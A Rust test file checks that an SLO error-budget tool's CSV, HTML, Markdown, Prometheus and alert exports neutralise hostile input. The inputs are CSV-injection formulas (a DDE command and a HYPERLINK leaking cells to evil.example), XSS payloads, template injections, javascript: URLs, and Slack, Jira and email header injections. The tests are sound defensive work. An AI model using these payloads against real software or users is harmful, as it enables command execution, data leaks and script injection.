//! What an attacker types, in every format: no formula, no markup, no link that runs, no template.

use crate::{now, plain, written};
use error_budget::engine::alerting::message::{Alert, Notice, Response};
use error_budget::engine::amount::Quotient;
use error_budget::exchange::export::alert_message::{
    Channels, email_body, jira_issue, pagerduty_event, slack_message, subject,
};
use error_budget::exchange::export::format::{Format, Options, export};
use error_budget::exchange::export::tables::Kind;
use error_budget::exchange::import;
use error_budget::model::alert_policy::Severity;
use error_budget::model::incident::Category;
use error_budget::model::plan::{Plan, Service};
use error_budget::model::zone::Zone;

/// Formulas: https://owasp.org/www-community/attacks/CSV_Injection.
const FORMULAS: [&str; 8] = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=1+2\";=1+2",
    "=1+2'\" ;,=1+2",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1&B1,\"Error: please click me\")",
];

/// Markup: https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html, and its like in Markdown.
const MARKUP: [&str; 9] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "\"><svg onload=alert(1)>",
    "' onmouseover='alert(1)",
    "</style><iframe src=\"javascript:alert(1)\">",
    "</title><a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    "[x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png) <javascript:alert(1)>",
];

/// A service of which everything that is typed is called so.
fn named(name: &str) -> Service {
    let mut service = plain();
    service.id = name.to_owned();
    service.name = name.to_owned();
    for (index, incident) in service.incidents.iter_mut().enumerate() {
        incident.id = format!("{name}{index}");
        incident.title = name.to_owned();
        incident.category = Category::Other(name.to_owned());
    }
    service.releases[0].name = name.to_owned();
    service
}

fn with(service: &Service, format: Format, options: &Options) -> Result<String, String> {
    let plan = Plan {
        services: vec![service.clone()],
        ..Plan::default()
    };
    let text = export(&plan, &service.id, now(), &Zone::utc(), format, options);
    text.map_err(|error| error.to_string())
}

fn csv(service: &Service, table: Kind) -> String {
    let options = Options {
        table,
        ..Options::default()
    };
    with(service, Format::Csv, &options).expect("a table")
}

#[test]
fn no_cell_of_any_table_is_a_formula() {
    for formula in FORMULAS {
        let service = named(formula);
        for kind in Kind::ALL {
            let text = csv(&service, kind);
            let mut reader = csv::Reader::from_reader(text.as_bytes());
            for record in reader.records() {
                for cell in &record.expect("a row") {
                    let starts = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
                    let is_number = cell.parse::<f64>().is_ok();
                    assert!(!starts || is_number, "{}: {cell}", kind.word());
                }
            }
        }
    }
}

#[test]
fn the_import_reads_every_formula_back_as_it_was_typed() {
    for formula in FORMULAS {
        let service = named(formula);
        let options = import::Options::new(now(), Zone::utc());
        let read = import::import(&csv(&service, Kind::Incidents), &options).expect("a history");
        let mut incidents = service.incidents.clone();
        incidents.sort_by_key(|incident| std::cmp::Reverse(incident.start));
        let mut back = read.incidents;
        back.sort_by_key(|incident| std::cmp::Reverse(incident.start));
        let texts = |incidents: &[error_budget::model::incident::Incident]| {
            let text = |incident: &error_budget::model::incident::Incident| {
                (incident.id.clone(), incident.title.clone())
            };
            incidents.iter().map(text).collect::<Vec<_>>()
        };
        assert_eq!(texts(&back), texts(&incidents));
    }
}

#[test]
fn overspending_stays_a_number() {
    let mut service = plain();
    // Two hours of 43.2 minutes: 76.8 too many.
    service.incidents = vec![crate::history::incident(
        "2026-03-09 10:00",
        "2026-03-09 12:00",
        "100%",
    )];
    let text = csv(&service, Kind::Summary);
    assert!(text.contains(",-76.8,"), "{text}");
}

#[test]
fn rejected_rows_are_mended_in_a_spreadsheet_and_come_back() {
    let given = "start,end,impact,title\n\
                 2026-13-02 10:00,2026-03-02 10:20,-3.5,\"=HYPERLINK(\"\"x\"\")\"\n";
    let options = import::Options::new(now(), Zone::utc());
    let read = import::import(given, &options).expect("a table");
    assert_eq!(read.rejected, 1);
    let text = read.rejected_csv();
    assert!(
        text.contains("2026-13-02 10:00,2026-03-02 10:20,-3.5,\"'=HYPERLINK(\"\"x\"\")\","),
        "{text}"
    );
    // As mended: the month, and an impact.
    let mended = text.replace("2026-13", "2026-03").replace("-3.5", "35");
    let read = import::import(&mended, &options).expect("a table");
    assert_eq!(read.incidents[0].title, "=HYPERLINK(\"x\")");
}

#[test]
fn what_looks_like_markup_is_text_on_a_page() {
    for markup in MARKUP {
        let page = written(&named(markup), Format::Html);
        let body = page.split_once("</style>").expect("a page with styles").1;
        // The report's own tags; whatever else begins like one was typed.
        for (at, _) in body.match_indices('<') {
            let tag = body[at + 1..].trim_start_matches('/');
            let end = tag.find(|c: char| !c.is_ascii_alphanumeric());
            let (name, rest) = tag.split_at(end.unwrap_or(tag.len()));
            let ours = [
                "head", "title", "body", "main", "h1", "h2", "p", "strong", "section", "dl", "div",
                "dt", "dd", "ul", "li", "table", "thead", "tbody", "tr", "th", "td", "html",
                "header", "footer",
            ];
            assert!(ours.contains(&name), "{markup}: <{name}");
            let inside = rest.split('>').next().unwrap_or_default();
            let attributes = ["", " class=\"number\"", " scope=\"col\"", " class=\"lead\""];
            assert!(attributes.contains(&inside), "{markup}: <{name}{inside}>");
        }
        let title = page
            .split_once("<title>")
            .and_then(|(_, rest)| rest.split_once("</title>"));
        assert!(
            title.is_some_and(|(title, _)| !title.contains('<')),
            "{markup}"
        );
    }
}

#[test]
fn what_looks_like_markup_is_text_in_markdown() {
    for markup in MARKUP {
        let service = named(markup);
        for format in [Format::Markdown, Format::PolicyDocument] {
            let text = written(&service, format);
            // A bracket or an angle that no backslash stands before begins a link, an image or an element.
            let open = |(at, _): &(usize, &str)| !text[..*at].ends_with('\\');
            for sign in ["[", "<"] {
                let found = text.match_indices(sign).find(open);
                assert_eq!(found, None, "{}: {markup}: {text}", format.word());
            }
        }
    }
}

#[test]
fn a_name_is_no_template_of_alertmanager_or_grafana() {
    for name in [
        "{{ query \"up\" }}",
        "{{{ $labels }}}",
        "{{{{ $externalURL }}}}",
        "{\u{0}{ $value }}",
    ] {
        let mut service = plain();
        service.name = name.to_owned();
        for line in written(&service, Format::Prometheus).lines() {
            let typed = [
                "query \"up\"",
                "query \\\"up\\\"",
                "$labels }}}",
                "$externalURL",
                "$value }}}",
            ];
            for word in typed {
                if let Some((before, _)) = line.split_once(word) {
                    let before = before.trim_end();
                    assert!(!before.ends_with("{{"), "{name}: {line}");
                }
            }
        }
    }
}

#[test]
fn addresses_that_run_are_refused_wherever_links_are_written() {
    for address in ["javascript:alert(1)", "data:text/html,x", " vbscript:x"] {
        let mut options = Options::default();
        options.rules.runbook_url = Some(address.to_owned());
        for format in [Format::Prometheus, Format::Sloth, Format::RuleCrd] {
            let refused = with(&plain(), format, &options).expect_err("refused");
            assert!(
                refused.contains("runbook") && refused.contains("https://"),
                "{refused}"
            );
        }
    }
    let mut options = Options::default();
    options.rules.runbook_url = Some("https://run.example/api".to_owned());
    for format in [Format::Prometheus, Format::Sloth] {
        let text = with(&plain(), format, &options).expect("rules");
        assert!(text.contains("https://run.example/api"), "{text}");
    }
}

fn alert(name: &str) -> Alert {
    Alert {
        service: name.to_owned(),
        condition: "burn".to_owned(),
        severity: Severity::Critical,
        title: format!("Budget of {name}"),
        text: format!("{name} burns."),
        action: Response::Page,
        remaining_share: Quotient::Finite(0.5),
        burn_rate: Quotient::Finite(14.4),
        spent: "50.0%".to_owned(),
    }
}

#[test]
fn messages_name_no_one_else_and_link_nowhere_else() {
    let channels = Channels {
        runbook_url: Some("javascript:alert(1)".to_owned()),
        dashboard_url: Some("https://dash.example/".to_owned()),
        ..Channels::default()
    };
    // Slack's mention of everybody; Jira's macro, image and mention; a header of its own in a mail.
    let alert = alert(
        "<!channel> {html}x{html} !https://evil.example/x.png! [~boss]\r\nBcc: all@example.com",
    );
    let slack = slack_message(&alert, "#slo", &channels, now()).to_string();
    assert!(
        !slack.contains("<!channel>\\n") && !slack.contains("javascript:"),
        "{slack}"
    );
    for text in slack_message(&alert, "#slo", &channels, now())["blocks"]
        .as_array()
        .expect("blocks")
    {
        if text["text"]["type"] == "mrkdwn" {
            assert!(!text.to_string().contains("<!"), "{text}");
        }
    }
    assert!(
        !slack_message(&alert, "#slo", &channels, now())["text"]
            .to_string()
            .contains('<'),
        "{slack}"
    );
    let event = pagerduty_event(&Notice::New(alert.clone()), "key", &channels, now());
    let links = event["links"].as_array().expect("links");
    assert_eq!(links.len(), 1);
    assert_eq!(links[0]["href"], "https://dash.example/");
    let issue = jira_issue(&alert, "SRE", &channels, now());
    let description = issue["fields"]["description"].as_str().expect("a text");
    for sign in ["{html}", "!https", "[~"] {
        let bare = description.match_indices(sign);
        assert_eq!(
            bare.filter(|(at, _)| !description[..*at].ends_with('\\'))
                .count(),
            0,
            "{sign}: {description}"
        );
    }
    assert!(!subject(&alert).contains(['\r', '\n']));
    assert!(email_body(&alert, &channels, now()).contains("Runbook: N/A"));
}
